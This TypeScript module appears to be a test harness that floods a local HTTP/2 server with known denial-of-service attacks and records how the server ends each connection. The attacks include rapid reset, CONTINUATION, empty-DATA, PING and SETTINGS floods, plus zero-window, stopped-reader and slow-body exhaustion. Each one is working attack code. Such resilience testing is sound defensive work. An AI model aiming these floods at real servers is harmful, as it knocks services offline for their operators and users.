// Floods over HTTP/2: each goes on until the server ends it, and says how that was.

import { setTimeout as delay } from 'node:timers/promises'
import {
  fieldBlock,
  flags,
  frame,
  frameTypes,
  openRawHttp2,
  type RawEnding,
  requestFields,
  settingNames,
  settingsFrame,
} from './raw-http2.ts'

const openEnded = flags.endHeaders
const whole = flags.endHeaders | flags.endStream

function headers(stream: number, block: Buffer, flag: number): Buffer {
  return frame(frameTypes.headers, flag, stream, block)
}

const cancel = Buffer.from([0, 0, 0, 8])
/** Names of client's streams are odd and grow. */
const streamAt = (index: number) => index * 2 + 1

/** Opens a stream and takes it back at once, again and again (CVE-2023-44487). */
export async function rapidReset(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  const block = fieldBlock(requestFields('/api/stream?window=reset&channels=main'))
  for (let index = 0, isOpen = true; isOpen; index += 100) {
    const frames = Array.from({ length: 100 }, (_, more) => {
      const stream = streamAt(index + more)
      return Buffer.concat([headers(stream, block, whole), frame(frameTypes.reset, 0, stream, cancel)])
    })
    isOpen = await raw.send(...frames)
  }
  return raw.ended
}

/** Opens streams without an end, far more than the settings permit. */
export async function thousandsOfStreams(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  for (let index = 0, isOpen = true; isOpen; index += 100) {
    const frames = Array.from({ length: 100 }, (_, more) => {
      const window = `many${index + more}`
      const block = fieldBlock(requestFields(`/api/stream?window=${window}&channels=main`))
      return headers(streamAt(index + more), block, whole)
    })
    isOpen = await raw.send(...frames)
  }
  return raw.ended
}

/** A header block that never ends (CVE-2024-27316 and its family). */
export async function endlessContinuation(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  await raw.send(headers(1, fieldBlock(requestFields('/')), flags.none))
  const more = frame(frameTypes.continuation, flags.none, 1, fieldBlock([['x-more', 'x'.repeat(8000)]]))
  while (await raw.send(more));
  return raw.ended
}

/** Header blocks of a megabyte, each complete. */
export async function hugeHeaders(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  const more = fieldBlock([['x-more', 'x'.repeat(16_000)]])
  for (let index = 0, isOpen = true; isOpen; index += 1) {
    const stream = streamAt(index)
    const middle = Array.from({ length: 62 }, () => frame(frameTypes.continuation, flags.none, stream, more))
    const last = frame(frameTypes.continuation, flags.endHeaders, stream, more)
    const first = headers(stream, fieldBlock(requestFields('/healthz')), flags.endStream)
    isOpen = await raw.send(first, ...middle, last)
  }
  return raw.ended
}

async function repeat(port: number, one: Buffer, isReading: boolean, count = 500): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  if (!isReading) raw.stopReading()
  const many = Buffer.concat(Array.from({ length: count }, () => one))
  while (await raw.send(many));
  return raw.ended
}

const ping = frame(frameTypes.ping, flags.none, 0, Buffer.alloc(8))
const settings = settingsFrame([settingNames.maxConcurrentStreams, 100])
const mostWindow = 2 ** 31 - 1
const postFields = [...requestFields('/api/messages', 'POST'), ['content-type', 'application/json'] as const]

export const pings = (port: number) => repeat(port, ping, true)
export const pingsUnread = (port: number) => repeat(port, ping, false)
export const settingsAgain = (port: number) => repeat(port, settings, true)
export const settingsUnread = (port: number) => repeat(port, settings, false)

/** Frames of data that hold none (CVE-2019-9518). */
export async function emptyData(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  await raw.send(headers(1, fieldBlock(postFields), openEnded))
  const empty = Buffer.concat(Array.from({ length: 500 }, () => frame(frameTypes.data, 0, 1)))
  while (await raw.send(empty));
  return raw.ended
}

/** Asks for streams and gives no window to any: what they say has to wait at the server. */
export async function zeroWindow(port: number, path: string, count: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port, [[settingNames.initialWindowSize, 0]])
  for (let index = 0; index < count; index += 1) {
    const block = fieldBlock(requestFields(path.replace('WINDOW', `zero${index}`)))
    await raw.send(headers(streamAt(index), block, whole))
  }
  return raw.ended
}

/** Gives every window there is, asks for streams of a channel that is loud, and then reads nothing of its connection. */
export async function stoppedReader(port: number, count: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port, [[settingNames.initialWindowSize, mostWindow]])
  const grown = Buffer.alloc(4)
  grown.writeUInt32BE(mostWindow - 65_535)
  await raw.send(frame(frameTypes.windowUpdate, flags.none, 0, grown))
  for (let index = 0; index < count; index += 1) {
    const path = `/api/stream?window=stopped${index}&channels=loud`
    await raw.send(headers(streamAt(index), fieldBlock(requestFields(path)), whole))
  }
  raw.stopReading()
  const loud = await openRawHttp2(port)
  const html = 'x'.repeat(12_000)
  for (let index = 0; await raw.send(ping); index += 1) {
    const draft = { id: `loud-${index}`, channel: 'loud', kind: 'edit', from: 'loud', at: 1, body: { html } }
    await loud.send(
      headers(streamAt(index), fieldBlock(postFields), openEnded),
      frame(frameTypes.data, flags.endStream, streamAt(index), Buffer.from(JSON.stringify(draft))),
    )
    // Slower than a window may send, so that the channel stays loud.
    await delay(10)
  }
  loud.close()
  return raw.ended
}

/** A body of which a byte comes now and then. Ends with its stream; the connection is left open by the server. */
export async function slowBodyOverHttp2(port: number, everyMs: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  await raw.send(headers(1, fieldBlock(postFields), openEnded))
  const byte = frame(frameTypes.data, flags.none, 1, Buffer.from(' '))
  while (Object.keys(raw.soFar().resets).length === 0 && (await raw.send(byte))) await delay(everyMs)
  raw.close()
  return raw.soFar()
}

/** A body that is refused for its size and goes on for as long as the stream is open. */
export async function endlessBodyOverHttp2(port: number): Promise<RawEnding> {
  const raw = await openRawHttp2(port)
  await raw.send(headers(1, fieldBlock(postFields), openEnded))
  // Somewhat less than the window that the server's streams begin with: this client reads no WINDOW_UPDATE.
  const part = frame(frameTypes.data, flags.none, 1, Buffer.alloc(16_000, 'x'))
  for (let count = 0; count < 15; count += 1) await raw.send(part)
  while (Object.keys(raw.soFar().resets).length === 0 && (await raw.send(ping))) await delay(20)
  raw.close()
  return raw.soFar()
}

/** One window that joins again and again, each time in the place of the time before. */
export async function joins(port: number, rounds: number): Promise<RawEnding> {
  const block = fieldBlock(requestFields('/api/stream?window=again&channels=main'))
  for (let round = 1; ; round += 1) {
    const raw = await openRawHttp2(port)
    const frames = Array.from({ length: 200 }, (_, index) => headers(streamAt(index), block, whole))
    await raw.send(...frames)
    while (raw.soFar().answers < 200 && (await raw.send(ping))) await delay(20)
    raw.close()
    if (round === rounds) return raw.soFar()
  }
}
